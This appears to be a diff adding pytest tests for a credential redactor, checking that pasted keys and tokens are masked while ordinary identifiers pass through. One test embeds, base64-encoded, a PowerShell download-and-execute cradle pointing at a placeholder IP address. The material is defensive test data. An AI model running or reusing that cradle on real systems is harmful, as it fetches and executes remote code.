@@ -82,6 +82,59 @@ def test_ordinary_security_text_passes_unchanged():
     assert changed == []
 
 
+# Only the tuning half of the fresh set is tested here; the held-out half is measured by
+# bench/redaction.py and never used to choose a rule.
+FRESH = json.loads((DATA / "redaction_fresh.json").read_text(encoding="utf-8"))
+FRESH_PASTE = [c for c in FRESH["paste"] if c["split"] == "tuning"]
+FRESH_ORDINARY = [c["text"] for c in FRESH["ordinary"] if c["split"] == "tuning"]
+KNOWN_MISSES = {"runas /user:CORP\\helpdesk \"cmd\" and when it prompts type Helpd3sk#1"}  # no keyword, no slot
+
+
+@pytest.mark.parametrize("case", [c for c in FRESH_PASTE if c["text"] not in KNOWN_MISSES],
+                         ids=lambda c: c["text"][:40])
+def test_fresh_pasted_credentials_from_the_tuning_half_are_redacted(case):
+    assert case["secret"] not in REDACTOR.redact(case["text"]).text
+
+
+def test_fresh_ordinary_lines_from_the_tuning_half_come_through_unchanged():
+    assert [line for line in FRESH_ORDINARY if REDACTOR.redact(line).text != line] == []
+
+
+@pytest.mark.parametrize("text, secret", [
+    ("PAGERDUTY_ROUTING_KEY=0123456789abcdef0123456789abcdef", "0123456789abcdef0123456789abcdef"),
+    ('{"app_key": "9f8e7d6c5b4a39281706f5e4d3c2b1a0"}', "9f8e7d6c5b4a39281706f5e4d3c2b1a0"),
+    ("SNYK_TOKEN=3e1f7a2b-9c4d-4e8f-a1b2-c3d4e5f6a7b8", "3e1f7a2b-9c4d-4e8f-a1b2-c3d4e5f6a7b8"),
+])
+def test_the_field_decides_a_hex_or_uuid_value_in_a_credential_slot_is_redacted(text, secret):
+    assert secret not in REDACTOR.redact(text).text
+
+
+@pytest.mark.parametrize("text", [
+    '"requestId": "Qm9vdHN0cmFwUmVxdWVzdDEyMzQ1Njc4OTA"',
+    '"userIdentity": {"arn": "arn:aws:iam::123456789012:user/Zx9Qw2Er7Ty4Ui1Op0As5Df8"}',
+    "password_last_set = 2026-01-02T03:04:05Z",
+    "token_endpoint: https://idp.example/oauth2/v1/token",
+    "passwordKey: admin-password",
+    "existingSecret: grafana-admin-credentials",
+    "password = var.db_password",
+])
+def test_the_field_decides_identifiers_and_references_are_kept(text):
+    assert REDACTOR.redact(text).text == text
+
+
+def test_base64_that_decodes_to_a_credential_is_redacted_and_readable_base64_is_kept():
+    import base64
+
+    def encoded(raw: str) -> str:
+        return base64.b64encode(raw.encode()).decode()
+
+    pem = encoded("-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIFakeKeyMaterialHere\n-----END EC PRIVATE KEY-----\n")
+    basic = encoded("svc-reader:Wint3r!sComing")
+    command = encoded("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')")
+    out = REDACTOR.redact(f"tls.key: {pem} and docker auth {basic}; the loader ran {command}").text
+    assert pem not in out and basic not in out and command in out
+
+
 def test_published_scanner_test_data_is_caught():
     corpus = json.loads((DATA / "secret_corpus.json").read_text(encoding="utf-8"))["samples"]
     non_hex = [s for s in corpus if s["secret"] is None or not re.fullmatch(r"[0-9a-fA-F]+", s["secret"])]
